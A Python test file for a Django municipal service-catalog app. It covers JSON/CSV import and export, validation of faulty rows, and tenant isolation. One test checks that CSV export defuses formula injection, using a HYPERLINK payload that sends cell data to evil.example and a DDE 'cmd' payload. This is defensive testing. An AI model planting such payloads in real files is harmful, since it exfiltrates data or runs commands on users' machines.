"""Catalog import (JSON/CSV, all-or-nothing, an error per faulty row) and export (round trip)."""

from __future__ import annotations

import copy
import csv
import io
import json
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from rathaus.catalog.models import Fee, LifeSituation, Service
from rathaus.catalog.services import export_catalog, export_csv, import_catalog, parse_csv
from rathaus.catalog.tests.factories import ServiceFactory
from rathaus.core.errors import ImportRejected
from rathaus.identity.models import StaffRole
from rathaus.identity.tests.factories import StaffFactory, login_staff
from rathaus.tenants.tests.factories import OrgUnitFactory


def _service(n: int, **over: Any) -> dict[str, Any]:
    record = {
        "leika_key": f"991150010{n:05d}",
        "slug": f"leistung-{n}",
        "name": f"Leistung Nummer {n}",
        "short_description": "Kurz und verständlich.",
        "description": "Absatz eins.\n\nAbsatz zwei.",
        "required_documents": ["Personalausweis", "Meldebescheinigung"],
        "fees": [
            {"label": "Grundgebühr", "amount_min": "12.50", "amount_max": "12.50", "legal_basis": "GebO § 1"},
            {"label": "je Seite", "amount_min": "1.00", "amount_max": "30.00", "legal_basis": ""},
        ],
        "legal_basis": "§ 17 BMG",
        "org_unit": "FB32",
        "processing_time": "ca. 2 Wochen",
        "processing_days": 14,
        "trust_level": "substantial",
        "ozg_maturity": 3,
        "ozg_level_legacy": 2,
        "ozg_topic": "Ein- und Auswanderung",
        "channels": ["online", "appointment"],
        "keywords": ["Ummeldung", "Umzug"],
        "life_situations": ["umzug"],
        "is_top": n == 1,
    }
    record.update(over)
    return record


@pytest.fixture
def document(tenant: Any) -> dict[str, Any]:
    OrgUnitFactory(tenant=tenant, key="FB32", name="Bürgerbüro")
    return {
        "life_situations": [{"slug": "umzug", "name": "Umzug", "description": "Wenn Sie umziehen."}],
        "services": [_service(1), _service(2), _service(3, life_situations=[], fees=[])],
    }


def test_import_creates_services_fees_and_life_situations(tenant: Any, document: dict[str, Any]) -> None:
    result = import_catalog(tenant=tenant, document=document)
    assert (result.created, result.updated, result.life_situations) == (3, 0, 1)
    service = Service.objects.for_tenant(tenant).get(slug="leistung-1")
    assert service.trust_level == "substantial" and service.is_top
    assert [(f.label, str(f.amount_min), str(f.amount_max)) for f in service.fees.all()] == [
        ("Grundgebühr", "12.50", "12.50"),
        ("je Seite", "1.00", "30.00"),
    ]
    assert [s.slug for s in service.life_situations.all()] == ["umzug"]


def test_reimport_updates_in_place(tenant: Any, document: dict[str, Any]) -> None:
    import_catalog(tenant=tenant, document=document)
    changed = copy.deepcopy(document)
    changed["services"][0]["name"] = "Neuer Name"
    changed["services"][0]["fees"] = []
    result = import_catalog(tenant=tenant, document=changed)
    assert (result.created, result.updated) == (0, 3)
    service = Service.objects.for_tenant(tenant).get(slug="leistung-1")
    assert service.name == "Neuer Name" and not service.fees.exists()
    assert Service.objects.for_tenant(tenant).count() == 3


def test_export_then_import_is_a_round_trip(tenant: Any, document: dict[str, Any]) -> None:
    import_catalog(tenant=tenant, document=document)
    exported = export_catalog(tenant)
    import_catalog(tenant=tenant, document=exported)
    assert export_catalog(tenant) == exported


def test_csv_round_trip(tenant: Any, document: dict[str, Any]) -> None:
    import_catalog(tenant=tenant, document=document)
    before = export_catalog(tenant)
    text = export_csv(tenant)
    assert text.splitlines()[0].startswith("leika_key;slug;name")
    parsed, labels = parse_csv(text)
    assert labels[0] == "Zeile 2"
    import_catalog(tenant=tenant, document=parsed, row_labels=labels)
    assert export_catalog(tenant) == before


def _runs_as_formula(cell: str) -> bool:
    """What Excel and LibreOffice evaluate (OWASP "CSV injection"), also behind blanks and line breaks."""
    return cell[:1] in ("\t", "\r") or cell.lstrip()[:1] in ("=", "+", "-", "@")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "'=", "''+", "'"])
def test_csv_export_runs_no_formula_and_still_round_trips(tenant: Any, document: dict[str, Any], start: str) -> None:
    document["services"][0].update(
        name=f'{start}HYPERLINK("https://evil.example/?"&A1;"Antrag")',
        short_description=f"{start}1+1",
        description=f"{start}cmd|' /C calc'!A0\n\nZweiter Absatz.",
        required_documents=[f"{start}Personalausweis", f"{start}Foto"],
        fees=[{"label": f"{start}Grundgebühr", "amount_min": "1.00", "amount_max": "2.00", "legal_basis": ""}],
        legal_basis=f"{start}§ 17 BMG",
        processing_time=f"{start}2 Wochen",
        ozg_topic=f"{start}Thema",
        keywords=[f"{start}Umzug", "Ummeldung"],
    )
    import_catalog(tenant=tenant, document=document)
    before = export_catalog(tenant)
    text = export_csv(tenant)

    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(rows) == 3
    for row in rows:
        for column, cell in row.items():
            assert not _runs_as_formula(cell), (column, cell)
    first = rows[0]
    assert first["name"] == ("'" if start != "'" else "") + f'{start}HYPERLINK("https://evil.example/?"&A1;"Antrag")'

    parsed, labels = parse_csv(text)
    assert parsed["services"][0]["name"] == document["services"][0]["name"]
    import_catalog(tenant=tenant, document=parsed, row_labels=labels)
    assert export_catalog(tenant) == before


def test_staff_csv_export_has_only_own_services_and_no_formula(
    tclient: Client, tenant: Any, other_tenant: Any, document: dict[str, Any]
) -> None:
    document["services"][0]["name"] = "=1+1"
    import_catalog(tenant=tenant, document=document)
    ServiceFactory(tenant=other_tenant, name="Fremde Leistung", leika_key="99000000000999")
    login_staff(tclient, StaffFactory(tenant=tenant, roles=[StaffRole.Role.DIGITALISATION]))
    response = tclient.get("/intern/leistungen/export.csv")
    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    rows = list(
        csv.DictReader(io.StringIO(response.content.decode().removeprefix("\ufeff"), newline=""), delimiter=";")
    )
    assert sorted(row["name"] for row in rows) == ["'=1+1", "Leistung Nummer 2", "Leistung Nummer 3"]


BROKEN = [
    ({"leika_key": "12345"}, "leika_key", "14 Ziffern"),
    ({"leika_key": "00000000000000"}, "leika_key", "Nullen"),
    ({"slug": "Mit Leerzeichen"}, "slug", "Format"),
    ({"name": ""}, "name", "leer"),
    ({"trust_level": "mittel"}, "trust_level", "erlaubt"),
    ({"ozg_maturity": 9}, "ozg_maturity", "höchstens 7"),
    ({"channels": ["fax"]}, "channels.0", "erlaubt"),
    ({"org_unit": "FB99"}, "org_unit", "Unbekannte Organisationseinheit"),
    ({"life_situations": ["mondfahrt"]}, "life_situations", "Unbekannte Lebenslage"),
    ({"fees": [{"label": "x", "amount_min": "5", "amount_max": "1"}]}, "fees.0", "Höchstbetrag"),
    ({"fees": [{"label": "x", "amount_min": "abc", "amount_max": "1"}]}, "fees.0.amount_min", "Betrag"),
    ({"processing_days": "bald"}, "processing_days", "ganze Zahl"),
]


@pytest.mark.parametrize(("change", "field", "message"), BROKEN)
def test_broken_row_is_reported_and_nothing_is_imported(
    tenant: Any, document: dict[str, Any], change: dict[str, Any], field: str, message: str
) -> None:
    document["services"][1].update(change)
    with pytest.raises(ImportRejected) as exc:
        import_catalog(tenant=tenant, document=document)
    errors = exc.value.errors
    assert {e["row"] for e in errors} == {"services[1]"}
    assert any(e["field"] == field and message in e["message"] for e in errors), errors
    assert not Service.objects.for_tenant(tenant).exists()
    assert not LifeSituation.objects.for_tenant(tenant).exists()
    assert not Fee.objects.exists()


def test_every_broken_row_is_listed(tenant: Any, document: dict[str, Any]) -> None:
    document["services"][0]["leika_key"] = "x"
    document["services"][2]["org_unit"] = "nix"
    with pytest.raises(ImportRejected) as exc:
        import_catalog(tenant=tenant, document=document)
    assert {e["row"] for e in exc.value.errors} == {"services[0]", "services[2]"}
    assert "2 fehlerhafte Zeile" in str(exc.value.detail)


def test_duplicates_within_the_file_are_refused(tenant: Any, document: dict[str, Any]) -> None:
    document["services"][2]["leika_key"] = document["services"][0]["leika_key"]
    document["services"][1]["slug"] = document["services"][0]["slug"]
    with pytest.raises(ImportRejected) as exc:
        import_catalog(tenant=tenant, document=document)
    messages = " ".join(e["message"] for e in exc.value.errors)
    assert (
        "LeiKa-Schlüssel kommt in der Datei doppelt" in messages and "Kurzname kommt in der Datei doppelt" in messages
    )


def test_slug_of_another_existing_service_is_refused(tenant: Any, document: dict[str, Any]) -> None:
    import_catalog(tenant=tenant, document=document)
    clash = {"services": [_service(9, slug="leistung-1")]}
    with pytest.raises(ImportRejected) as exc:
        import_catalog(tenant=tenant, document=clash)
    assert "gehört bereits einer anderen Leistung" in exc.value.errors[0]["message"]


def test_import_never_touches_another_municipality(tenant: Any, other_tenant: Any, document: dict[str, Any]) -> None:
    OrgUnitFactory(tenant=other_tenant, key="FB32")
    import_catalog(tenant=other_tenant, document=copy.deepcopy(document))
    document["services"] = document["services"][:1]
    document["services"][0]["name"] = "Nur in Alpha"
    import_catalog(tenant=tenant, document=document)
    assert Service.objects.for_tenant(other_tenant).get(slug="leistung-1").name == "Leistung Nummer 1"


@pytest.mark.parametrize("bad", [[], "text", {"services": "x"}, {"services": [], "life_situations": 3}])
def test_malformed_documents_are_refused(tenant: Any, bad: Any) -> None:
    with pytest.raises(ImportRejected):
        import_catalog(tenant=tenant, document=bad)


def test_csv_with_missing_columns_is_refused(tenant: Any) -> None:
    with pytest.raises(ImportRejected) as exc:
        parse_csv("name;slug\nA;a\n")
    assert "leika_key" in str(exc.value.detail)


def test_csv_errors_name_the_line(tenant: Any, document: dict[str, Any]) -> None:
    import_catalog(tenant=tenant, document=document)
    lines = export_csv(tenant).split("\r\n")
    broken = lines[0] + "\r\n" + lines[1].replace("99115001000001", "123", 1) + "\r\n"
    parsed, labels = parse_csv(broken)
    with pytest.raises(ImportRejected) as exc:
        import_catalog(tenant=tenant, document=parsed, row_labels=labels)
    assert exc.value.errors[0]["row"] == "Zeile 2"


def test_staff_upload_reports_rows_and_imports_nothing(tclient: Client, tenant: Any, document: dict[str, Any]) -> None:
    login_staff(tclient, StaffFactory(tenant=tenant, roles=[StaffRole.Role.DIGITALISATION]))
    document["services"][1]["leika_key"] = "99"
    upload = SimpleUploadedFile("katalog.json", json.dumps(document).encode(), "application/json")
    response = tclient.post("/intern/leistungen/", {"file": upload})
    assert response.status_code == 422
    body = response.content.decode()
    assert "services[1]" in body and "14 Ziffern" in body and "nichts importiert" in body
    assert not Service.objects.for_tenant(tenant).exists()


def test_staff_upload_of_valid_csv_imports(tclient: Client, tenant: Any, document: dict[str, Any]) -> None:
    import_catalog(tenant=tenant, document=document)
    text = export_csv(tenant).replace("Leistung Nummer 2", "Leistung Zwei")
    login_staff(tclient, StaffFactory(tenant=tenant, roles=[StaffRole.Role.TENANT_ADMIN]))
    upload = SimpleUploadedFile("katalog.csv", ("\ufeff" + text).encode(), "text/csv")
    response = tclient.post("/intern/leistungen/", {"file": upload})
    assert response.status_code == 302
    assert Service.objects.for_tenant(tenant).filter(name="Leistung Zwei").exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [(b"\xff\xfe\x00garbage", "UTF-8"), (b'{"services": [', "Kein gültiges JSON")],
)
def test_staff_upload_of_unreadable_file(tclient: Client, tenant: Any, content: bytes, message: str) -> None:
    login_staff(tclient, StaffFactory(tenant=tenant, roles=[StaffRole.Role.DIGITALISATION]))
    response = tclient.post("/intern/leistungen/", {"file": SimpleUploadedFile("k.json", content)})
    assert response.status_code == 422 and message in response.content.decode()
